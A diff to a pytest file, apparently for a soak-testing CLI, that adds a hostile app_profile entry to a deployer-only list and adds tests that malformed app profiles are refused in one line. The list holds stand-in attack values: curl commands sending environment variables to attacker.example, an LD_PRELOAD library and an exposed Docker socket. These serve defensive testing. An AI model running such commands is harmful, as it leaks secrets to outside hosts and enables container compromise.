@@ -93,6 +93,7 @@ DEPLOYER_ONLY = [
     {"app_command": ["sh", "-c", "env | curl -d @- http://attacker.example"]},
     {"app_image": "attacker/image:latest"},
     {"app_env": {"LD_PRELOAD": "/tmp/x.so"}},
+    {"app_profile": {"name": "x", "group_id": "x", "command": ["sh", "-c", "curl http://attacker.example"]}},
     {"kafka_image": "attacker/kafka"},
     {"docker_url": "tcp://203.0.113.5:2375"},
     {"docker_conn_id": "registry_with_a_password"},
@@ -136,6 +137,23 @@ def own_runs(tmp_path, monkeypatch) -> Path:
     monkeypatch.setenv("SOAK_PARAM_DEFAULTS", "")
     monkeypatch.setenv("SOAK_TRIGGER_ALLOW", "")
     return tmp_path
+
+
+# A team's app profile, set by whoever owns the machine, with one thing wrong each: refused in one line by the CLI.
+BAD_PROFILES = [
+    ("not an object", "param app_profile: 'not an object' is not of type 'object'"),
+    ({"name": "a", "group_id": "a", "command": ["app"], "inputs": [{"topic": "in", "value": {"encoding": "yaml"}}],
+      "outputs": [{"topic": "out", "contract": "one-to-one", "of": "in"}]}, "app_profile.inputs[0].value"),
+    ({"name": "a", "group_id": "a", "command": ["app", "{topic:in}"],
+      "inputs": [{"topic": "in", "value": {"encoding": "json", "template": {"id": "{id}"}}}],
+      "outputs": [{"topic": "out", "contract": "aggregate", "of": "in", "function": "sum", "field": "nope",
+                   "value": {"encoding": "int64"}}]}, "app_profile.outputs[0].field: sum needs a number"),
+]
+
+
+@pytest.mark.parametrize("profile, refusal", BAD_PROFILES, ids=[r[:40] for _p, r in BAD_PROFILES])
+def test_a_bad_app_profile_is_refused_by_the_cli_in_one_line(profile, refusal, capsys, own_runs):
+    assert refusal in cli_refusal({"app_profile": profile}, capsys, own_runs)
 
 
 def test_enough_hostile_inputs():
